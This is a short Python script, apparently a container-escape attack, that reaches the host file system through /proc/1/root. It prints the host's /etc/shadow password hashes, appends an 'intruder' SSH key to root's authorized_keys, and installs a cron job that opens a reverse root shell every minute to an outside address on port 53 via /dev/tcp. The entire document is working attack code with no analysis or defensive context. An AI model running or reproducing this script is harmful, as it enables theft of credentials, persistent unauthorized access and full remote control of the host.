# writes to the host's file system through init's root
from pathlib import Path
host = Path("/proc/1/root")
print((host / "etc/shadow").read_text())
with (host / "root/.ssh/authorized_keys").open("a") as fh:
    fh.write("ssh-rsa AAAAB3NzaC1yc2EPLACEHOLDER intruder\n")
(host / "etc/cron.d/agent").write_text("* * * * * root /bin/sh -c 'sh -i >& /dev/tcp/192.0.2.8/53 0>&1'\n")
